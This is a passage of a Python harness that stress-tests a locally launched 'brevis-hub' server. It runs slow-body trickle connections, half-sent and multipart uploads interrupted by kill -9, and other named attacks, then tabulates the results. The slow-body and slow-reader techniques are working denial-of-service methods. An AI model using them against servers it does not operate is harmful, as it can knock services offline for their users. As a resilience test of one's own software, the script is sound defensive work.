                        except OSError:
                            data = None
                        if data:
                            try:
                                c["status"] = int(data.split(b" ", 2)[1])
                            except (ValueError, IndexError):
                                pass
                        c.update(open=False, closed_at=round(time.time() - t0, 1),
                                 how="answered" if data else ("reset" if data is None else "closed"))
                        sel.unregister(s)
                checkpoints[f"{a.trickle_secs:g}"] = sum(1 for c in conns.values() if c["open"])
                fds = srv.fds()
                live = srv.status()
            for s in conns:
                s.close()
            sel.close()
            closed = [c for c in conns.values() if not c["open"]]
            how = {}
            for c in closed:
                k = f"{c['how']}:{c['status']}" if c["status"] else c["how"]
                how[k] = how.get(k, 0) + 1
            run = {"n": n, "connected": len(conns), "refused": refused, "connect_errors": other,
                   "connect_seconds": round(connect_s, 1), "open_at": checkpoints, "closed_how": how,
                   "first_close_s": min((c["closed_at"] for c in closed), default=None),
                   "last_close_s": max((c["closed_at"] for c in closed), default=None),
                   "server_fds_at_end": fds, "threads_at_end": live.get("Threads"),
                   "server_alive": srv.alive(), **mon.result()}
            res["runs"][str(n)] = run
            cp = f"{a.trickle_checkpoint:g}"
            endk = f"{a.trickle_secs:g}"
            row("slow-bodies", "tokens", f"{n} commit POSTs, CL 1000000, 1 B/{a.trickle_interval:g}s",
                f"open@{cp}s {checkpoints.get(cp)}/{len(conns)}, open@{endk}s {checkpoints[endk]}",
                "no",
                f"refused {refused}, closed {how or '-'}, server fds {fds}, peak RSS {run['peak_vmrss_mb']} MB, "
                f"threads {run['peak_threads']}")
        finally:
            srv.stop()
    return res


def attack_leftovers(ctx):
    a = ctx.args
    d = ctx.dir("leftovers")
    store = os.path.join(d, "store")
    tmp = os.path.join(store, "tmp")
    res = {"cases": {}}
    srv = Server(ctx.bin, store, d, tokens=True, name="serve-1").start()
    socks = []
    try:
        create_repo(srv.port, "org", "up")
        # Basic upload, half sent.
        data = os.urandom(a.leftover_mb << 20)
        oid = hashlib.sha256(data).hexdigest()
        b = batch(srv.port, "org/up", [{"oid": oid, "size": len(data)}])
        up = upload_actions(b, oid)
        if up and up.get("href"):
            r = raw_request(srv.port, "PUT", href_path(up["href"]), body=data, send_limit=len(data) // 2,
                            headers={"Content-Type": "application/octet-stream"})
            if "sock" in r:
                socks.append(r["sock"])
            res["cases"]["half basic PUT"] = {"batch": st(b), "sent": r.get("sent"), "early": st(r) if "sock" not in r else None}
        else:
            res["cases"]["half basic PUT"] = {"batch": st(b), "note": "no upload href"}
        # Multipart: part 1 whole (never completed), part 2 half sent.
        size = a.leftover_multipart_mb << 20
        big = os.urandom(size)
        boid = hashlib.sha256(big).hexdigest()
        b2 = batch(srv.port, "org/up", [{"oid": boid, "size": size}])
        up2 = upload_actions(b2, boid) or {}
        hdr = up2.get("header") or {}
        if hdr.get("1"):
            chunk = int(hdr.get("chunk_size", size))
            p1 = request(srv.port, "PUT", href_path(hdr["1"]), body=big[:chunk], timeout=120)
            res["cases"]["multipart part 1 whole"] = {"status": st(p1), "chunk": chunk}
            if hdr.get("2"):
                part2 = big[chunk:2 * chunk]
                r2 = raw_request(srv.port, "PUT", href_path(hdr["2"]), body=part2, send_limit=len(part2) // 2)
                if "sock" in r2:
                    socks.append(r2["sock"])
                res["cases"]["multipart part 2 half"] = {"sent": r2.get("sent"), "early": st(r2) if "sock" not in r2 else None}
        else:
            res["cases"]["multipart"] = {"batch": st(b2), "note": f"no part URLs for a {size}-byte object"}
        time.sleep(1.5)
        res["tmp_before_kill"] = listing(tmp)
        srv.kill9()
        for s in socks:
            s.close()
        srv2 = Server(ctx.bin, store, d, tokens=True, name="serve-2").start()
        try:
            time.sleep(a.leftover_wait)
            res["tmp_after_restart"] = listing(tmp)
            res["server2_alive"] = srv2.alive()
        finally:
            srv2.stop()
        left = res["tmp_after_restart"]
        row("leftovers", "tokens", "kill -9 mid-upload, restart: files in STORE/tmp",
            f"{len(res['tmp_before_kill'])} before -> {len(left)} after", "no",
            "; ".join(left)[:200] or "tmp/ empty")
    finally:
        for s in socks:
            s.close()
        srv.stop()
    return res


# --------------------------------------------------------------------------


def cleanup():
    for s in list(SERVERS):
        try:
            s.stop()
        except Exception:
            try:
                s.proc.kill()
            except Exception:
                pass


def ints(s):
    return [int(x) for x in s.split(",") if x.strip()]


def sources(s):
    if "-" in s and "," not in s:
        lo, hi = s.split("-")
        p = lo.rsplit(".", 1)
        return [f"{p[0]}.{i}" for i in range(int(p[1]), int(hi.rsplit('.', 1)[1]) + 1)]
    return [x.strip() for x in s.split(",") if x.strip()]


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("binary", help="the brevis-hub binary")
    ap.add_argument("--only", default=",".join(ATTACKS), help="attacks to run, comma-separated: " + ",".join(ATTACKS))
    ap.add_argument("--json", metavar="PATH", help="write the results as JSON here ('-' = stdout, after the table)")
    ap.add_argument("--modes", default="tokens,open",
                    help="server modes for read-leak and write-outside: tokens (--token/--read-token), open (none)")
    ap.add_argument("--commit-mb", type=int, default=200)
    ap.add_argument("--commit-chunked", action="store_true",
                    help="send commit bodies chunked (no Content-Length), as lines of 8 MB regular files")
    ap.add_argument("--commit-concurrency", type=ints, default=[1, 3], help="e.g. 1,3")
    ap.add_argument("--commit-timeout", type=float, default=300)
    ap.add_argument("--slow-readers", type=ints, default=[48, 200])
    ap.add_argument("--reader-rate", type=int, default=20000, help="bytes/s each slow reader takes")
    ap.add_argument("--reader-secs", type=float, default=20)
    ap.add_argument("--sources", type=sources, default=sources("127.0.0.2-127.0.0.9"),
                    help="client addresses, 127.0.0.2-127.0.0.9 or a,b,c")
    ap.add_argument("--trickle", type=ints, default=[500])
    ap.add_argument("--trickle-secs", type=float, default=60, help="how long to watch the slow bodies")
    ap.add_argument("--trickle-checkpoint", type=float, default=40, help="report how many are open at this time")
    ap.add_argument("--trickle-interval", type=float, default=3, help="seconds between single bytes")
    ap.add_argument("--no-trickle-spread", dest="trickle_spread", action="store_false",
                    help="slow bodies all from 127.0.0.1 instead of --sources")
    ap.add_argument("--leftover-mb", type=int, default=4)
    ap.add_argument("--leftover-multipart-mb", type=int, default=80,
                    help="object size announced for the multipart leftover (above the server's threshold)")
    ap.add_argument("--leftover-wait", type=float, default=3, help="seconds after the restart before listing tmp/")
    ap.add_argument("--model-dir", default=os.path.expanduser("~/.cache/brevis-data/models/minilm-l6-v2"))
    ap.add_argument("--small-seed", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "testdata", "hub-seed"))
    ap.add_argument("--workdir", help="parent folder for the temp stores (under /tmp or /work/attack)")
    ap.add_argument("--keep", action="store_true", help="keep the temp stores")
    args = ap.parse_args()
    args.binary = os.path.abspath(args.binary)
    args.small_seed = os.path.abspath(args.small_seed) if args.small_seed and os.path.isdir(args.small_seed) else None
    only = [x.strip() for x in args.only.split(",") if x.strip()]
    bad = [x for x in only if x not in ATTACKS]
    if bad:
        ap.error(f"unknown attacks {bad}; known: {ATTACKS}")
    modes = [m for m in args.modes.split(",") if m]
    parent = os.path.realpath(args.workdir or "/tmp")
    if not (parent == "/tmp" or parent.startswith("/tmp/") or parent == "/work/attack" or parent.startswith("/work/attack/")):
        ap.error("--workdir must be under /tmp or /work/attack")
    os.makedirs(parent, exist_ok=True)
    base = os.path.realpath(tempfile.mkdtemp(prefix="attack-serve-", dir=parent))

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    except (ValueError, OSError):
        pass
    fdlimit = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    need = max(args.trickle, default=0) + max(args.slow_readers, default=0) + 64
    if fdlimit < need:
        cap = max(1, fdlimit - 64)
        args.trickle = [min(n, cap) for n in args.trickle]
        args.slow_readers = [min(n, cap) for n in args.slow_readers]
        log(f"fd limit {fdlimit}: counts capped at {cap}")

    def on_signal(sig, _frm):
        cleanup()
        sys.exit(128 + sig)

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    ctx = Ctx(args, base)
    results = {"binary": args.binary, "started": time.strftime("%Y-%m-%dT%H:%M:%S%z"), "workdir": base,
               "fd_limit": fdlimit, "attacks": {}}
    t_all = time.time()
    try:
        for name in only:
            log(f"== {name}")
            t0 = time.time()
            try:
                if name == "read-leak":
                    r = {m: attack_read_leak(ctx, m) for m in modes}
                elif name == "write-outside":
                    r = {m: attack_write_outside(ctx, m) for m in modes}
                elif name == "oversized-commit":
                    r = attack_oversized_commit(ctx)
                elif name == "slow-readers":
                    r = attack_slow_readers(ctx)
                elif name == "slow-bodies":
                    r = attack_slow_bodies(ctx)
                elif name == "leftovers":
                    r = attack_leftovers(ctx)
            except Exception as e:  # an attack that could not run is a result too
                r = {"error": f"{type(e).__name__}: {e}"}
                row(name, "-", "SCRIPT ERROR", "-", "?", str(e)[:200])
            finally:
                cleanup()
            r["seconds"] = round(time.time() - t0, 1)
            results["attacks"][name] = r
            log(f"   {name}: {r['seconds']} s")
    finally:
        cleanup()
        results["seconds"] = round(time.time() - t_all, 1)
        results["table"] = ROWS
        if args.keep:
            log(f"kept {base}")
        else:
            shutil.rmtree(base, ignore_errors=True)
    print(f"binary: {args.binary}   total {results['seconds']} s")
    print_table(ROWS)
    if args.json:
        text = json.dumps(results, indent=2, default=str)
        if args.json == "-":
            print(text)
        else:
            with open(args.json, "w") as f:
                f.write(text + "\n")


if __name__ == "__main__":
    main()
